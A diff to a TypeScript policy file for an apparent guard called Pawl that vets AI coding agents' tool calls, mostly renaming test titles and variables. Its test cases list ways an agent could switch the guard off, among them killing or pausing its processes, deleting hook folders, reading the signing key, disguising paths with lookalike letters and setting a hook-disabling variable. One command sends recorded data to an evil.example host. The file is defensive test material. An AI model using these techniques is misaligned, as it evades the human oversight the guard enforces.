@@ -36,7 +36,7 @@ export default definePolicy({
         paths: [...Array.from({ length: 70 }, (_, n) => `src/${n}.ts`), '/home/me/.pawl/config.jsonc'],
       }),
       expect: 'deny',
-      title: 'The last of many',
+      title: 'The last of many paths',
     },
     {
       event: tool('mcp__fs__write', { a: { a: { a: { a: { a: { a: { a: { path: '~/.pawl/off' } } } } } } } }),
@@ -54,14 +54,14 @@ export default definePolicy({
     {
       event: tool('mcp__sh__batch', { steps: [{ command: 'ls' }, { command: 'pawl off' }] }),
       expect: 'deny',
-      title: 'Not only the first step',
+      title: 'A later step of a batch',
     },
     { event: tool('mcp__sh__exec', { program: 'pawl', args: ['off'] }), expect: 'deny' },
     { event: tool('Read', { file_path: '/home/me/.claude/settings.json' }), expect: 'pass' },
     {
       event: bash('echo "{}" >> ~/.claude/projects/-home-me-project/0a1b.jsonl'),
       expect: 'deny',
-      title: 'The transcript proves what a person typed',
+      title: 'Writes the transcript, which proves what a person typed',
     },
     { event: bash('tail -n 5 ~/.claude/projects/-home-me-project/0a1b.jsonl'), expect: 'pass' },
     { event: bash('pawl pause'), expect: 'deny' },
@@ -73,17 +73,17 @@ export default definePolicy({
     {
       event: bash('pawl team join postgres://me@evil.example/team'),
       expect: 'deny',
-      title: 'Would send what is recorded to another server',
+      title: 'Sends what is recorded to another server',
     },
     { event: bash('pawl team status'), expect: 'pass' },
     { event: bash('cat ~/.pawl/team/password'), expect: 'deny' },
     { event: bash('rm -rf ~/.pawl'), expect: 'deny' },
     { event: bash('mv ~/.pawl /tmp/x'), expect: 'deny' },
-    { event: bash('rm -rf .claude'), expect: 'deny', title: 'The hooks are registered in it' },
+    { event: bash('rm -rf .claude'), expect: 'deny', title: 'The folder in which the hooks are registered' },
     {
       event: tool('Edit', { file_path: '/data/cc/settings.json', old_string: 'a', new_string: 'b' }),
       expect: 'deny',
-      title: 'The client’s folder is elsewhere',
+      title: 'The client’s folder, which a variable moves',
       given: { env: { CLAUDE_CONFIG_DIR: '/data/cc' } },
     },
     {
@@ -97,7 +97,11 @@ export default definePolicy({
       given: { env: { CLAUDE_CONFIG_DIR: '/data/cc' } },
     },
     { event: bash('rm -rf .claude/commands/old'), expect: 'pass' },
-    { event: bash('mv ~/.codex ~/.codex.bak'), expect: 'deny', title: 'Pawl is registered there, too' },
+    {
+      event: bash('mv ~/.codex ~/.codex.bak'),
+      expect: 'deny',
+      title: 'The folder of another client, in which Pawl is registered, too',
+    },
     { event: bash('rm ~/.config/opencode/plugin/pawl.js'), expect: 'deny' },
     { event: bash('mv ~/.claude/plugins /tmp/x'), expect: 'deny' },
     { event: bash('rm ~/.codex/sessions/a.jsonl'), expect: 'pass' },
@@ -108,11 +112,19 @@ export default definePolicy({
     {
       event: bash('python3 ~/.claude/skills/report/make.py in.html'),
       expect: 'pass',
-      title: 'Runs a script',
+      title: 'Runs a script of a skill',
     },
-    { event: bash('tar xf ~/.claude/skills/a.tgz -C /tmp/a'), expect: 'pass', title: 'Unpacks from there' },
+    {
+      event: bash('tar xf ~/.claude/skills/a.tgz -C /tmp/a'),
+      expect: 'pass',
+      title: 'Unpacks an archive into another folder',
+    },
     { event: bash('bsdtar -xf e.tar -s /x/.claude/'), expect: 'deny' },
-    { event: bash('python3 -m json.tool .claude/settings.json'), expect: 'pass', title: 'Only shows it' },
+    {
+      event: bash('python3 -m json.tool .claude/settings.json'),
+      expect: 'pass',
+      title: 'Shows the settings',
+    },
     { event: bash('python3 -m json.tool x.json .claude/settings.json'), expect: 'deny' },
     { event: bash('npx prettier --check .claude/settings.json'), expect: 'pass' },
     { event: bash('npx prettier --write .claude/settings.json'), expect: 'deny' },
@@ -121,24 +133,40 @@ export default definePolicy({
     { event: bash('sed -i s/deny/off/ .pawl/config.jsonc'), expect: 'deny' },
     { event: bash("python3 -c \"open('/home/me/.pawl/config.jsonc', 'w').write('')\""), expect: 'deny' },
     { event: bash('pkill pawl'), expect: 'deny' },
-    { event: bash('kill -STOP $(pgrep pawl)'), expect: 'deny', title: 'Whether one runs now or not' },
+    {
+      event: bash('kill -STOP $(pgrep pawl)'),
+      expect: 'deny',
+      title: 'Processes of Pawl, whether one runs now or not',
+    },
     { event: bash('pidof claude | xargs kill -9'), expect: 'deny' },
     { event: bash('renice 19 $(pgrep -f "pawl hook")'), expect: 'deny' },
     { event: bash('kill -STOP $PPID'), expect: 'deny', title: 'The shell of a tool call is the client’s' },
     {
       event: bash('kill -STOP 4242'),
       expect: 'deny',
-      title: 'The client by its number',
+      title: 'The client by its process id',
       given: { processes: [{ owner: 'client', program: 'claude' }] },
     },
     { event: bash('kill 4242'), expect: 'pass', given: { processes: [{ owner: 'session' }] } },
-    { event: bash('ps -fp $(pgrep claude)'), expect: 'pass', title: 'Only shows' },
-    { event: bash('pkill -f pawl-site/server.js'), expect: 'pass', title: 'Another program' },
+    { event: bash('ps -fp $(pgrep claude)'), expect: 'pass', title: 'Shows processes of the client' },
+    {
+      event: bash('pkill -f pawl-site/server.js'),
+      expect: 'pass',
+      title: 'A program that is only named like Pawl',
+    },
     { event: bash('pkill -f packages/my-claude-code/server.js'), expect: 'pass', given: { processes: [] } },
     { event: bash('pkill -f @anthropic-ai/claude-code'), expect: 'deny' },
-    { event: bash('tar czf /tmp/backup.tgz .claude/ CLAUDE.md'), expect: 'pass', title: 'Packs the folder' },
+    {
+      event: bash('tar czf /tmp/backup.tgz .claude/ CLAUDE.md'),
+      expect: 'pass',
+      title: 'Packs the client’s folder',
+    },
     { event: bash('PAWL_HOME=/tmp/x claude -p hi'), expect: 'deny' },
-    { event: bash('echo CLAUDE_CODE_SIMPLE=1 >> .env'), expect: 'deny', title: 'In a file of variables' },
+    {
+      event: bash('echo CLAUDE_CODE_SIMPLE=1 >> .env'),
+      expect: 'deny',
+      title: 'A variable that switches hooks off, in a file of variables',
+    },
     { event: bash('export CLAUDE_CONFIG_DIR=/tmp/x'), expect: 'deny' },
     { event: bash('pawl hook PreToolUse < made-up.json'), expect: 'deny', title: 'A made-up event' },
     { event: bash('cp /bin/true "$(which pawl)"'), expect: 'deny' },
@@ -150,14 +178,18 @@ export default definePolicy({
     { event: bash('sqlite3 ~/.pawl/pawl.db "update sessions set mode = 1 where id = 2"'), expect: 'deny' },
     { event: bash('sqlite3 ~/.pawl/pawl.db < made-up.sql'), expect: 'deny' },
     { event: bash('ls ~/.claude/hooks/'), expect: 'pass' },
-    { event: bash('cat ~/.pawl/key'), expect: 'deny', title: 'Whoever reads the key can forge a seal' },
+    { event: bash('cat ~/.pawl/key'), expect: 'deny', title: 'The key, with which a seal can be forged' },
     { event: tool('Read', { file_path: '/home/me/.pawl/key' }), expect: 'deny' },
-    { event: tool('Read', { file_path: '/home/me/.PAWL/Key' }), expect: 'deny', title: 'Case is ignored' },
+    {
+      event: tool('Read', { file_path: '/home/me/.PAWL/Key' }),
+      expect: 'deny',
+      title: 'A path in another case',
+    },
     { event: tool('Write', { file_path: '.Claude/Settings.JSON', content: '{}' }), expect: 'deny' },
     {
       event: tool('Write', { file_path: '.claude/\u017fettings.json', content: '{}' }),
       expect: 'deny',
-      title: 'A letter that some file systems take for another one',
+      title: 'A letter that some file systems take for an s',
     },
     { event: tool('Write', { file_path: '.cla\u200cude/settings.json', content: '{}' }), expect: 'deny' },
     { event: tool('Write', { file_path: '.claude/settings.json. ', content: '{}' }), expect: 'deny' },
@@ -165,10 +197,14 @@ export default definePolicy({
     { event: tool('Write', { file_path: 'CLAUDE~1/SETTIN~1.JSO', content: '{}' }), expect: 'deny' },
     { event: bash('echo "{}" > .CLAUDE/settings.local.json'), expect: 'deny' },
     { event: bash('cp ~/.pawl/key /tmp/k'), expect: 'deny' },
-    { event: bash('tar xf e.tar -C ~'), expect: 'deny', title: 'An archive can hold any name' },
+    { event: bash('tar xf e.tar -C ~'), expect: 'deny', title: 'Unpacks files of any name into the home' },
     { event: bash('unzip -o e.zip -d ~'), expect: 'deny' },
     { event: bash('7z x e.7z -o$HOME -y'), expect: 'deny' },
-    { event: bash('tar czf /tmp/backup.tgz -C ~ notes'), expect: 'pass', title: 'Packs' },
+    {
+      event: bash('tar czf /tmp/backup.tgz -C ~ notes'),
+      expect: 'pass',
+      title: 'Packs a folder of the home',
+    },
     { event: bash('tar xf e.tar -C ~/src'), expect: 'pass' },
     { event: bash('git clone evil ~/.pawl/policies/x'), expect: 'deny' },
     { event: bash('git submodule add ./evil .claude'), expect: 'deny' },
@@ -181,9 +217,13 @@ export default definePolicy({
     { event: bash('git add .claude && git commit -m x .claude/settings.json'), expect: 'pass' },
     { event: bash('git rm -r --cached .claude'), expect: 'pass' },
     { event: bash('git checkout -- .claude/commands/a.md'), expect: 'pass' },
-    { event: bash('cd ~ && tar xf /tmp/e.tar'), expect: 'deny', title: 'Into the folder it works in' },
+    {
+      event: bash('cd ~ && tar xf /tmp/e.tar'),
+      expect: 'deny',
+      title: 'Unpacks into the working directory, which is the home',
+    },
     { event: bash('cd .claude && unzip ../e.zip'), expect: 'deny' },
-    { event: bash('tar -xPf e.tar'), expect: 'deny', title: 'Names from the root' },
+    { event: bash('tar -xPf e.tar'), expect: 'deny', title: 'Unpacks files with absolute paths' },
     { event: bash('python3 -m zipfile -e e.zip ~'), expect: 'deny' },
     { event: bash('dpkg-deb -x e.deb $HOME'), expect: 'deny' },
     { event: bash('unzip -l e.zip'), expect: 'pass' },
@@ -191,13 +231,17 @@ export default definePolicy({
     { event: bash('GOBIN=~/bin go install ./x'), expect: 'pass' },
     { event: bash('git clone https://example.com/a.git'), expect: 'pass' },
     { event: bash("echo '{}' > ~/.claude/plugins/installed_plugins.json"), expect: 'deny' },
-    { event: bash('cp x ~/.claude.json'), expect: 'deny', title: 'Trust and servers of the client' },
+    {
+      event: bash('cp x ~/.claude.json'),
+      expect: 'deny',
+      title: 'The client’s file of trusted folders and MCP servers',
+    },
     { event: bash('tmux set-environment -g CLAUDE_CODE_SIMPLE 1'), expect: 'deny' },
     { event: bash('tmux set-environment -g EDITOR vim'), expect: 'pass' },
     { event: bash('grep -r pawl src'), expect: 'pass' },
     { event: bash('echo "{}" | pawl'), expect: 'deny', title: 'A made-up event, without a subcommand' },
     { event: bash('~/.pawl/bin/* pause'), expect: 'deny' },
-    { event: bash('grep -r . ~/.pawl'), expect: 'deny', title: 'The key lies there' },
+    { event: bash('grep -r . ~/.pawl'), expect: 'deny', title: 'Searches the folder with the key' },
     { event: bash('strings ~/.pawl/ke?'), expect: 'deny' },
     { event: bash('cp -r ~/.pawl /tmp/p'), expect: 'deny' },
     { event: bash('grep -r token ~'), expect: 'pass' },
@@ -218,7 +262,7 @@ export default definePolicy({
     {
       event: bash(`awk 'BEGIN{print > ENVIRON["HOME"]"/.pawl/off"}'`),
       expect: 'deny',
-      title: 'A path that is put together in code',
+      title: 'A path that code puts together',
     },
     { event: bash(`awk '/pawl/ {print $2}' ~/.pawl/config.jsonc`), expect: 'pass' },
     { event: bash(`vim +'call delete(expand("~/.pawl"),"rf")' +q`), expect: 'deny' },
@@ -229,21 +273,21 @@ export default definePolicy({
     const accesses = fileAccesses(event, facts);
     const key = accesses.find(({ path }) => isKey(path, facts));
     if (key) return refuse(`reads ${key.text}, a secret of Pawl`);
-    const changed = accesses.find((one) => changesOwnFile(one, facts));
+    const changed = accesses.find((access) => changesOwnFile(access, facts));
     if (changed) return refuse(`changes ${changed.text}, ${CONSEQUENCE}`);
-    const how =
+    const action =
       patchesByTool(event) ??
       fillsByTool(event, accesses, facts) ??
       facts.shell.commands.map((command) => whyWeakens(command, facts)).find(Boolean);
-    if (how === undefined) return undefined;
-    return refuse(how.startsWith('reads ') ? how : `${how}, ${CONSEQUENCE}`);
+    if (action === undefined) return undefined;
+    return refuse(action.startsWith('reads ') ? action : `${action}, ${CONSEQUENCE}`);
   },
 });
 
 const CONSEQUENCE = 'which could switch the guard off';
 
-const refuse = (what: string) =>
-  deny(`This ${what}. Only a person may do that, in their own terminal`, {
+const refuse = (action: string) =>
+  deny(`This ${action}. Only a person may do that, in their own terminal`, {
     code: 'self',
     instead: 'tell the person what you need and why',
   });
